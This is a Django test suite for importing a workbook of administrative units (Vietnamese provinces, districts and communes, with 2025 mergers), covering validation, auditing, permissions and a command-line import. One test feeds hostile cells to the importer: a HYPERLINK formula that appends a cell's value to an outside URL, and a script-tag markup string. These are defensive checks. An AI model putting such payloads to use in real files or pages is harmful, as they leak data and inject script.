"""The units workbook: ``units_import`` / ``units_apply``, its page, its template and
``manage.py import_units``."""

from __future__ import annotations

import datetime as dt
import io
import tempfile
from pathlib import Path

import openpyxl
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import CommandError, call_command
from django.db import connection
from django.test import TestCase
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils.translation import gettext as _

from daotao.accounts import roles
from daotao.accounts.scope import SYSTEM
from daotao.audit.models import AuditEntry
from daotao.lib.xlsx import CONTENT_TYPE
from daotao.onboarding.importing.units import UnitRow, units_apply, units_import
from daotao.onboarding.importing.units_template import template_workbook
from daotao.org.models import Succession, SuccessionKind, Unit, UnitKind
from daotao.testing import make_unit, make_user, user_workbook
from daotao.web.import_results import ImportRejected

HEADERS = [
    "Mã đơn vị", "Tên đơn vị", "Loại", "Mã đơn vị cấp trên", "Hiệu lực từ", "Hiệu lực đến", "Mã đơn vị kế thừa",
    "Email",
]  # fmt: skip
END = dt.date(2025, 6, 30)
START = dt.date(2025, 7, 1)
IMPORT = reverse("onboarding:units-import")
TEMPLATE = reverse("onboarding:units-template")


def successor_of(unit: Unit) -> Unit | None:
    """The one unit ``unit`` merged into (the workbook's successor column), None for none."""
    successors = list(unit.successors.all())
    assert len(successors) <= 1, successors
    return successors[0] if successors else None


def merged(predecessor: Unit, successor: Unit) -> Unit:
    Succession.objects.create(predecessor=predecessor, successor=successor, effective_date=START)
    return predecessor


def unit(code, name, kind, parent="", valid_from=None, valid_to=None, successor="", email="") -> list:
    return [code, name, kind, parent, valid_from, valid_to, successor, email]


# A tree in the file's own order: successors and parents often further down.
TREE = [
    unit("BA", "Tỉnh Bình An", "Tỉnh"),
    unit("SCH", "Trường Chính trị tỉnh Bình An", "Trường", "BA"),
    unit("K-XDD", "Khoa Xây dựng Đảng", "faculty", "SCH"),
    unit("H01", "Huyện An Lạc", "Cấp huyện", "BA", None, "30/06/2025", "X01"),
    unit("TTCT-H01", "Trung tâm Chính trị huyện An Lạc", "Trung tâm chính trị", "H01", None, END, "TTCT-X01"),
    unit("TTCT-X01", "Trung tâm Chính trị xã An Lạc", "TTCT", "X01", START),
    unit("X01", "Xã An Lạc", "cap xa", "BA", dt.datetime(2025, 7, 1)),
    unit(" snv ", "Sở  Nội vụ", "Cơ quan", "ba", email="snv@binhan.gov.vn"),
]


def workbook(rows: list[list], headers: list[str] = HEADERS) -> bytes:
    return user_workbook({"DonVi": (headers, rows)})


def tree_rows() -> list[UnitRow]:
    """The same tree as the demo states it: in code, with kinds as ``UnitKind`` values."""
    return [
        UnitRow("BA", "Tỉnh Bình An", UnitKind.PROVINCE),
        UnitRow("H01", "Huyện An Lạc", UnitKind.DISTRICT, "BA", valid_to=END, successor="X01"),
        UnitRow("X01", "Xã An Lạc", UnitKind.COMMUNE, "BA", valid_from=START),
    ]


class UnitsImportTests(TestCase):
    @classmethod
    def setUpTestData(cls):
        cls.office = make_user("office", roles.TRAINING_OFFICE)
        cls.coordinator = make_user("coord", roles.LOCALITY_COORDINATOR)

    def units(self) -> dict[str, Unit]:
        return {u.code: u for u in Unit.objects.select_related("parent")}

    def refused(self, rows: list[list], **options) -> list[tuple]:
        """The (row, column, message) of each problem; the file must change nothing."""
        before = list(Unit.objects.order_by("pk").values())
        audited = AuditEntry.objects.count()
        with self.assertRaises(ImportRejected) as caught:
            units_import(workbook(rows), user=self.office, **options)
        self.assertEqual(list(Unit.objects.order_by("pk").values()), before)
        self.assertEqual(AuditEntry.objects.count(), audited)
        self.assertEqual({p.sheet for p in caught.exception.problems}, {"DonVi"})
        return [(p.row, p.column, p.message) for p in caught.exception.problems]

    def test_a_tree_with_the_2025_reorganisation_on_an_empty_table(self):
        result = units_import(workbook(TREE), user=self.office)
        self.assertEqual((result.units.created, result.units.updated, result.units.unchanged), (8, 0, 0))
        self.assertEqual(
            result.lines(),
            [_("Import finished."), _("Units: %(created)s created, %(updated)s updated, %(unchanged)s unchanged.")
             % {"created": 8, "updated": 0, "unchanged": 0}],
        )  # fmt: skip
        units = self.units()
        self.assertEqual(
            sorted(units), ["BA", "H01", "K-XDD", "SCH", "SNV", "TTCT-H01", "TTCT-X01", "X01"]
        )  # codes in capitals, spaces trimmed
        province, district, commune = units["BA"], units["H01"], units["X01"]
        self.assertEqual(units["SNV"].name, "Sở Nội vụ")
        agency = units["SNV"]
        self.assertEqual((agency.kind, agency.parent, agency.email), ("agency", province, "snv@binhan.gov.vn"))
        self.assertEqual((district.kind, district.valid_to, successor_of(district)), ("district", END, commune))
        self.assertEqual((commune.kind, commune.valid_from, commune.parent), ("commune", START, province))
        self.assertEqual(successor_of(units["TTCT-H01"]), units["TTCT-X01"])
        self.assertEqual(units["K-XDD"].kind, "faculty")
        # The paths make the tree: everything is below the province, the centre below its commune.
        self.assertEqual(Unit.objects.subtree(province).count(), 8)
        self.assertEqual(set(Unit.objects.subtree(commune).values_list("code", flat=True)), {"X01", "TTCT-X01"})
        self.assertEqual(units["TTCT-X01"].path, f"/{province.pk}/{commune.pk}/{units['TTCT-X01'].pk}/")
        # Both the districts of 2020 and today's communes stay true.
        in_2020 = set(Unit.objects.valid_on(dt.date(2020, 1, 1)).localities().values_list("code", flat=True))
        today = set(Unit.objects.valid_on(START).localities().values_list("code", flat=True))
        self.assertEqual((in_2020, today), ({"H01"}, {"X01"}))

    def test_dry_run_writes_nothing(self):
        result = units_import(workbook(TREE), user=self.office, dry_run=True)
        self.assertEqual(result.units.created, 8)
        self.assertEqual(result.lines()[0], _("The file is valid; nothing was written (check only)."))
        self.assertFalse(Unit.objects.exists())
        self.assertFalse(AuditEntry.objects.exists())

    def test_the_same_file_again_changes_nothing(self):
        content = workbook(TREE)
        units_import(content, user=self.office)
        paths = dict(Unit.objects.values_list("code", "path"))
        audited = AuditEntry.objects.count()
        result = units_import(content, user=self.office)
        self.assertEqual((result.units.created, result.units.updated, result.units.unchanged), (0, 0, 8))
        self.assertEqual(dict(Unit.objects.values_list("code", "path")), paths)
        self.assertEqual(AuditEntry.objects.count(), audited)

    def test_units_on_record_are_updated_moved_and_never_deleted(self):
        province = make_unit("BA", "Tỉnh Bình An", UnitKind.PROVINCE)
        old = make_unit("h01", "Huyen An Lac", UnitKind.DISTRICT, province)
        commune = make_unit("X01", "Xã An Lạc", UnitKind.COMMUNE, old)
        centre = make_unit("TTCT-X01", "Trung tâm Chính trị xã An Lạc", UnitKind.POLITICAL_CENTRE, commune)
        other = make_unit("H09", "Huyện Khác", UnitKind.DISTRICT, province, email="h09@binhan.gov.vn")
        rows = [
            # X01 (with its centre, not in the file) moves under the province; it comes first.
            unit("X01", "Xã An Lạc", "Cấp xã", "BA", START),
            unit("H01", "Huyện An Lạc", "Cấp huyện", "BA", None, END, "X01"),
            unit("H09", "Huyện Khác", "Cấp huyện", "BA"),  # empty email: kept
        ]
        result = units_import(workbook(rows), user=self.office)
        self.assertEqual((result.units.created, result.units.updated, result.units.unchanged), (0, 2, 1))
        units = self.units()
        self.assertEqual(set(units), {"BA", "H01", "X01", "TTCT-X01", "H09"})  # nothing deleted, h01 renamed
        self.assertEqual(units["H01"].pk, old.pk)
        self.assertEqual((units["H01"].name, successor_of(units["H01"])), ("Huyện An Lạc", commune))
        self.assertEqual(units["X01"].path, f"/{province.pk}/{commune.pk}/")
        self.assertEqual(units["TTCT-X01"].path, f"/{province.pk}/{commune.pk}/{centre.pk}/")
        self.assertEqual(units["H09"].email, other.email)
        entry = AuditEntry.objects.get(action="unit.import", object_id=str(old.pk))
        self.assertEqual(entry.username, "office")
        self.assertEqual(
            entry.changes,
            {"code": ["h01", "H01"], "name": ["Huyen An Lac", "Huyện An Lạc"], "successor": [None, commune.pk],
             "valid_to": [None, "2025-06-30"]},
        )  # fmt: skip

    def test_each_unit_created_is_audited(self):
        units_import(workbook(TREE), user=self.office)
        entries = AuditEntry.objects.filter(action="unit.import")
        self.assertEqual(entries.count(), 8)
        district = Unit.objects.get(code="H01")
        self.assertEqual(
            entries.get(object_id=str(district.pk)).changes,
            {"code": [None, "H01"], "name": [None, "Huyện An Lạc"], "kind": [None, "district"],
             "parent": [None, Unit.objects.get(code="BA").pk], "valid_to": [None, "2025-06-30"],
             "successor": [None, Unit.objects.get(code="X01").pk]},
        )  # fmt: skip

    def test_every_problem_is_listed_and_nothing_written(self):
        make_unit("OLD", "Huyện Cũ", UnitKind.DISTRICT, make_unit("BA", "Tỉnh Bình An", UnitKind.PROVINCE))
        long_name = "Xã " + "A" * 300
        rows = [
            unit("T2", "Tỉnh Hai", "Tỉnh", "BA"),  # 2: a province with a parent
            unit("A", "Xã A", "Cấp xã", "B"),  # 3, 4: A below B below A
            unit("B", "Xã B", "Cấp xã", "A"),
            unit("C", "Xã C", "Cấp xã", "C"),  # 5: below itself
            unit("D", "Xã D", "Cấp xã", "", START),  # 6: no parent
            unit("E", "Xã E", "Cấp xã", "BA", "01/07/2025", "30/06/2025"),  # 7: dates out of order
            unit("F", "Huyện F", "Cấp huyện", "BA", None, END, "G"),  # 8: G starts too late
            unit("G", "Xã G", "Cấp xã", "BA", dt.date(2025, 7, 2)),
            unit("H", "Huyện H", "Cấp huyện", "BA", None, None, "G"),  # 10: successor, no end
            unit("h", "Huyện H", "Cấp huyện", "BA"),  # 11: the same code again
            unit("I", "Xã I", "Thôn", "ZZ", successor="I"),  # 12: bad kind, unknown parent, own successor
            unit("J", long_name, "Cấp xã", "BA", "31/02/2025", email="not an email"),  # 13
            unit("L", "Huyện L", "Cấp huyện", "BA", None, END, "M"),  # 14: M ended before
            unit("M", "Xã M", "Cấp xã", "BA", dt.date(2020, 1, 1), dt.date(2025, 6, 1)),
            unit("", "Không mã", "Cấp xã", "BA"),  # 16
        ]
        self.assertEqual(
            self.refused(rows),
            [
                (2, "Mã đơn vị cấp trên (D)", _("A province is at the top of the tree: leave this cell empty.")),
                (3, "Mã đơn vị cấp trên (D)",
                 _("This places the unit below itself: %(chain)s, each below the next.") % {"chain": "A → B → A"}),
                (4, "Mã đơn vị cấp trên (D)",
                 _("This places the unit below itself: %(chain)s, each below the next.") % {"chain": "B → A → B"}),
                (5, "Mã đơn vị cấp trên (D)", _("A unit cannot be placed below itself.")),
                (6, "Mã đơn vị cấp trên (D)",
                 _("Give the code of the unit directly above this one: only a province has none.")),
                (7, "Hiệu lực đến (F)", _("The end of validity cannot be before its start.")),
                (8, "Mã đơn vị kế thừa (G)",
                 _("The successor “%(code)s” starts on %(start)s, later than %(day)s, the day after this unit ends.")
                 % {"code": "G", "start": "02/07/2025", "day": "01/07/2025"}),
                (10, "Mã đơn vị kế thừa (G)",
                 _("A unit with a successor must have an end of validity: fill in %(column)s.")
                 % {"column": "Hiệu lực đến"}),
                (11, "Mã đơn vị (A)",
                 _("The unit “%(code)s” is already on row %(row)s: one row per unit.") % {"code": "H", "row": 10}),
                (12, "Loại (C)",
                 _("“%(value)s” is not an accepted value; use one of: %(choices)s.")
                 % {"value": "Thôn", "choices": ("Tỉnh, Trường, Khoa, Phòng, Cấp huyện, Cấp xã, Trung tâm chính trị, "
                                                 "Cơ quan, Khác, province, school, faculty, office, district, "
                                                 "commune, political_centre, agency, other")}),
                (12, "Mã đơn vị cấp trên (D)", _("Unknown unit code “%(code)s”.") % {"code": "ZZ"}),
                (12, "Mã đơn vị kế thừa (G)", _("A unit cannot be its own successor.")),
                (13, "Hiệu lực từ (E)",
                 _("“%(value)s” is not a date: write it as dd/mm/yyyy.") % {"value": "31/02/2025"}),
                (13, "Tên đơn vị (B)",
                 _("Too long: at most %(limit)s characters (this one has %(length)s).")
                 % {"limit": 255, "length": 303}),
                (13, "Email (H)", _("“%(value)s” is not a valid email address.") % {"value": "not an email"}),
                (14, "Mã đơn vị kế thừa (G)",
                 _("The successor “%(code)s” ends on %(end)s, before %(day)s, the day after this unit ends.")
                 % {"code": "M", "end": "01/06/2025", "day": "01/07/2025"}),
                (16, "Mã đơn vị (A)", _("A value is required.")),
            ],
        )  # fmt: skip

    def test_hostile_cells(self):
        formula = '=HYPERLINK("http://x/?"&B2,"Xã A")'
        self.assertEqual(
            self.refused([unit("BA", "Tỉnh Bình An", "Tỉnh"), unit("A", formula, "Cấp xã", "BA")]),
            [(3, "Tên đơn vị (B)",
              _("The cell holds a formula (%(formula)s): type its value instead.") % {"formula": formula[:40]})],
        )  # fmt: skip
        markup = '<script>alert("x")</script> Xã A'
        rows = [unit("BA", "Tỉnh Bình An", "Tỉnh"), unit("A", markup, "Cấp xã", "BA")]
        units_import(workbook(rows), user=self.office)
        self.assertEqual(Unit.objects.get(code="A").name, markup)  # text, escaped wherever it is shown
        self.assertEqual(
            self.refused([unit("B" * 40, "Xã B", "Cấp xã", "BA")]),
            [(2, "Mã đơn vị (A)",
              _("Too long: at most %(limit)s characters (this one has %(length)s).") % {"limit": 32, "length": 40})],
        )  # fmt: skip

    def test_a_move_below_a_descendant_on_record_is_refused(self):
        province = make_unit("BA", "Tỉnh Bình An", UnitKind.PROVINCE)
        district = make_unit("H01", "Huyện An Lạc", UnitKind.DISTRICT, province)
        commune = make_unit("X01", "Xã An Lạc", UnitKind.COMMUNE, district)
        make_unit("TT", "Tổ", UnitKind.OTHER, commune)
        self.assertEqual(
            self.refused([unit("H01", "Huyện An Lạc", "Cấp huyện", "TT")]),
            [(2, "Mã đơn vị cấp trên (D)",
              _("This places the unit below itself: %(chain)s, each below the next.")
              % {"chain": "H01 → TT → X01 → H01"})],
        )  # fmt: skip

    def test_a_tree_too_deep_and_a_long_loop(self):
        rows = [unit("BA", "Tỉnh Bình An", "Tỉnh")] + [
            unit(f"L{level}", f"Cấp {level}", "Khác", f"L{level - 1}" if level > 2 else "BA") for level in range(2, 13)
        ]
        too_deep = _("This unit would be on level %(level)s of the tree, counting the top as 1; at most %(max)s levels "
                     "are allowed.")  # fmt: skip
        self.assertEqual(
            self.refused(rows),
            [(12, "Mã đơn vị cấp trên (D)", too_deep % {"level": 11, "max": 10}),
             (13, "Mã đơn vị cấp trên (D)", too_deep % {"level": 12, "max": 10})],
        )  # fmt: skip
        # 3.000 units, each below the next and the last below the first: checked at once, named briefly.
        loop = [unit(f"V{n}", f"Vòng {n}", "Khác", f"V{(n + 1) % 3000}") for n in range(3000)]
        problems = self.refused(loop)
        self.assertEqual(len(problems), 200)  # those listed; the others are counted
        self.assertEqual(
            problems[0],
            (2, "Mã đơn vị cấp trên (D)", _("This places the unit below itself: %(chain)s, each below the next.")
             % {"chain": "V0 → V1 → V2 → V3 → V4 → V5 → … → V0"}),
        )  # fmt: skip

    def test_a_successor_on_record_and_a_predecessor_on_record_are_checked(self):
        province = make_unit("BA", "Tỉnh Bình An", UnitKind.PROVINCE)
        commune = make_unit("X01", "Xã An Lạc", UnitKind.COMMUNE, province, valid_from=START)
        merged(make_unit("H01", "Huyện An Lạc", UnitKind.DISTRICT, province, valid_to=END), commune)
        rows = [
            unit("H02", "Huyện Hai", "Cấp huyện", "BA", None, dt.date(2025, 5, 31), "X01"),  # X01 not yet there
            unit("X01", "Xã An Lạc", "Cấp xã", "BA", dt.date(2025, 8, 1)),  # H01 on record ends on 30/06
        ]
        self.assertEqual(
            self.refused(rows),
            [
                (2, "Mã đơn vị kế thừa (G)",
                 _("The successor “%(code)s” starts on %(start)s, later than %(day)s, the day after this unit ends.")
                 % {"code": "X01", "start": "01/08/2025", "day": "01/06/2025"}),
                (3, "Hiệu lực từ (E)",
                 _("%(name)s (%(code)s), on record with this unit as its successor, ends on %(end)s: this unit must "
                   "be valid on %(day)s.")
                 % {"name": "Huyện An Lạc", "code": "H01", "end": "30/06/2025", "day": "01/07/2025"}),
            ],
        )  # fmt: skip

    def test_an_empty_cell_keeps_the_dates_and_successor_on_record(self):
        province = make_unit("BA", "Tỉnh Bình An", UnitKind.PROVINCE)
        commune = make_unit("X01", "Xã An Lạc", UnitKind.COMMUNE, province, valid_from=START)
        merged(make_unit("H01", "Huyện An Lạc", UnitKind.DISTRICT, province, valid_to=END), commune)
        result = units_import(workbook([unit("H01", "Huyện An Lạc", "Cấp huyện", "BA")]), user=self.office)
        self.assertEqual(result.units.unchanged, 1)
        district = Unit.objects.get(code="H01")
        self.assertEqual((district.valid_to, successor_of(district)), (END, commune))

    def test_the_successor_column_writes_a_merger_from_the_day_after_the_end(self):
        units_import(workbook(TREE), user=self.office)
        link = Succession.objects.get(predecessor__code="H01")
        self.assertEqual((link.successor.code, link.effective_date, link.kind), ("X01", START, SuccessionKind.MERGED))
        # A later end moves the day; another successor replaces the merger.
        province = Unit.objects.get(code="BA")
        make_unit("X02", "Xã Hai", UnitKind.COMMUNE, province, valid_from=START)
        units_import(workbook([unit("H01", "Huyện An Lạc", "Cấp huyện", "BA", None, END, "X02")]), user=self.office)
        link = Succession.objects.get(predecessor__code="H01")
        self.assertEqual((link.successor.code, link.effective_date), ("X02", START))

    def test_a_split_recorded_in_the_admin_is_kept_when_the_row_names_one_of_its_parts(self):
        units_import(workbook(TREE), user=self.office)
        district, province = Unit.objects.get(code="H01"), Unit.objects.get(code="BA")
        other = make_unit("X02", "Xã Hai", UnitKind.COMMUNE, province, valid_from=START)
        Succession.objects.filter(predecessor=district).update(kind=SuccessionKind.SPLIT, territory="Thị trấn")
        Succession.objects.create(
            predecessor=district, successor=other, effective_date=START, kind=SuccessionKind.SPLIT, territory="Xã Hai"
        )
        result = units_import(workbook([unit("H01", "Huyện An Lạc", "Cấp huyện", "BA", None, END, "X02")]),
                              user=self.office)  # fmt: skip
        self.assertEqual(result.units.unchanged, 1)
        self.assertEqual(set(district.successors.values_list("code", flat=True)), {"X01", "X02"})

    def test_only_the_training_office_or_the_system(self):
        for user in (self.coordinator, make_user("nobody")):
            with self.assertRaises(ImportRejected) as caught:
                units_apply(tree_rows(), user=user)
            self.assertEqual(caught.exception.lines(), [_("Your account may not change the units.")])
            with self.assertRaises(ImportRejected):
                units_import(workbook(TREE), user=user)
        self.assertFalse(Unit.objects.exists())

    def test_the_demo_applies_rows_from_code(self):
        result = units_apply(tree_rows(), user=SYSTEM)
        self.assertEqual(result.units.created, 3)
        district = Unit.objects.get(code="H01")
        self.assertEqual(successor_of(district).code, "X01")
        self.assertEqual(set(AuditEntry.objects.values_list("username", flat=True)), {"system"})
        # From code, a problem names the row by its place in the list (after a header row).
        with self.assertRaises(ImportRejected) as caught:
            units_apply([*tree_rows(), UnitRow("X02", "Xã Hai", "Cấp xã", "NOPE")], user=SYSTEM)
        self.assertEqual(
            [str(p) for p in caught.exception.problems],
            [_("Sheet %(sheet)s, row %(row)s, column %(column)s: %(message)s")
             % {"sheet": "DonVi", "row": 5, "column": "Mã đơn vị cấp trên",
                "message": _("Unknown unit code “%(code)s”.") % {"code": "NOPE"}}],
        )  # fmt: skip

    def test_three_hundred_units_in_few_queries(self):
        rows = [UnitRow("BA", "Tỉnh Bình An", UnitKind.PROVINCE)]
        for district in range(1, 31):
            rows.append(UnitRow(f"H{district:02}", f"Huyện {district}", UnitKind.DISTRICT, "BA", valid_to=END,
                                successor=f"X{district:02}01"))  # fmt: skip
            rows += [
                UnitRow(f"X{district:02}{n:02}", f"Xã {district}-{n}", UnitKind.COMMUNE, "BA", valid_from=START)
                for n in range(1, 10)
            ]
        self.assertEqual(len(rows), 301)
        rows.reverse()  # every unit before the one above it
        with CaptureQueriesContext(connection) as created:
            units_apply(rows, user=SYSTEM)
        # An insert and its path per unit, one audit entry each, and a handful more.
        self.assertLess(len(created), 3 * 301 + 20)
        self.assertEqual(Unit.objects.subtree(Unit.objects.get(code="BA")).count(), 301)
        self.assertEqual(successor_of(Unit.objects.get(code="H30")).code, "X3001")
        with self.assertNumQueries(4):  # nothing to write: the loads (in a savepoint), whatever the size
            result = units_apply(rows, user=SYSTEM)
        self.assertEqual(result.units.unchanged, 301)


class UnitsPageTests(TestCase):
    @classmethod
    def setUpTestData(cls):
        cls.office = make_user("office", roles.TRAINING_OFFICE)
        cls.coordinator = make_user("coord", roles.LOCALITY_COORDINATOR)

    def post(self, content: bytes, **data):
        upload = SimpleUploadedFile("donvi.xlsx", content, content_type=CONTENT_TYPE)
        return self.client.post(IMPORT, {"workbook": upload, **data}, follow=True)

    def test_the_office_imports_in_a_job(self):
        self.client.force_login(self.office)
        response = self.client.get(IMPORT)
        self.assertEqual(response.status_code, 200)
        self.assertContains(response, TEMPLATE)
        response = self.post(workbook(TREE))
        self.assertEqual(response.redirect_chain[0][0][:6], "/jobs/")
        self.assertContains(response, _("Import finished."))
        self.assertContains(response, reverse("admin:org_unit_changelist"))
        self.assertEqual(Unit.objects.count(), 8)

    def test_a_dry_run_and_a_refused_file_write_nothing(self):
        self.client.force_login(self.office)
        response = self.post(workbook(TREE), dry_run="on")
        self.assertContains(response, _("The file is valid; nothing was written (check only)."))
        response = self.post(workbook([*TREE, unit("X01", "Xã Trùng", "Cấp xã", "BA")]))
        problems = response.context["state"]["problems"]
        self.assertEqual([(p["sheet"], p["row"], p["column"]) for p in problems], [("DonVi", 10, "Mã đơn vị (A)")])
        self.assertFalse(Unit.objects.exists())

    def test_only_the_training_office(self):
        for url in (IMPORT, TEMPLATE):
            self.assertRedirects(self.client.get(url), f"{reverse('login')}?next={url}")
        self.client.force_login(self.coordinator)
        self.assertEqual(self.client.get(IMPORT).status_code, 403)
        self.assertEqual(self.client.get(TEMPLATE).status_code, 403)
        self.assertEqual(self.post(workbook(TREE)).status_code, 403)
        self.assertFalse(Unit.objects.exists())

    def test_the_template_downloads(self):
        self.client.force_login(self.office)
        response = self.client.get(TEMPLATE)
        self.assertEqual(response.status_code, 200)
        self.assertEqual(response["Content-Type"], CONTENT_TYPE)
        self.assertIn("mau-nhap-don-vi.xlsx", response["Content-Disposition"])


class UnitsTemplateTests(TestCase):
    def test_the_example_tree_imports_cleanly(self):
        content = template_workbook()
        book = openpyxl.load_workbook(io.BytesIO(content))
        self.assertEqual(book.sheetnames, ["DonVi", "HuongDan"])
        self.assertEqual([cell.value for cell in book["DonVi"][1]], HEADERS)
        guide = [row[1] for row in book["HuongDan"].iter_rows(values_only=True)]
        self.assertIn("Mã đơn vị kế thừa", guide)
        result = units_import(content, user=SYSTEM)
        self.assertEqual((result.units.created, result.units.updated), (8, 0))
        district = Unit.objects.get(code="H01")
        self.assertEqual((district.kind, district.valid_to, successor_of(district).code), ("district", END, "X01"))
        self.assertEqual(Unit.objects.get(code="X01").valid_from, START)
        self.assertEqual(successor_of(Unit.objects.get(code="TTCT-H01")), Unit.objects.get(code="TTCT-X01"))
        self.assertEqual(Unit.objects.get(code="TTCT-X01").kind, UnitKind.POLITICAL_CENTRE)
        self.assertEqual(Unit.objects.get(code="SNV").kind, UnitKind.AGENCY)


class ImportUnitsCommandTests(TestCase):
    def setUp(self):
        folder = tempfile.TemporaryDirectory()
        self.addCleanup(folder.cleanup)
        self.path = Path(folder.name) / "donvi.xlsx"

    def run_command(self, content: bytes, *args) -> str:
        self.path.write_bytes(content)
        out = io.StringIO()
        call_command("import_units", str(self.path), *args, stdout=out, stderr=io.StringIO())
        return out.getvalue()

    def test_imports_and_prints_the_counts(self):
        counts = _("Units: %(created)s created, %(updated)s updated, %(unchanged)s unchanged.")
        out = self.run_command(workbook(TREE), "--dry-run")
        self.assertIn(_("The file is valid; nothing was written (check only)."), out)
        self.assertFalse(Unit.objects.exists())
        out = self.run_command(workbook(TREE))
        self.assertIn(counts % {"created": 8, "updated": 0, "unchanged": 0}, out)
        self.assertEqual(AuditEntry.objects.filter(username="system").count(), 8)
        self.assertIn(counts % {"created": 0, "updated": 0, "unchanged": 8}, self.run_command(workbook(TREE)))

    def test_a_refused_file_lists_its_problems_and_fails(self):
        self.path.write_bytes(workbook([unit("X01", "Xã An Lạc", "Cấp xã", "X01")]))
        err = io.StringIO()
        with self.assertRaises(CommandError) as caught:
            call_command("import_units", str(self.path), stdout=io.StringIO(), stderr=err)
        self.assertEqual(caught.exception.returncode, 1)
        self.assertIn("DonVi", err.getvalue())
        self.assertIn(_("A unit cannot be placed below itself."), err.getvalue())
        self.assertFalse(Unit.objects.exists())
        with self.assertRaises(CommandError):
            call_command("import_units", str(self.path.with_name("missing.xlsx")))
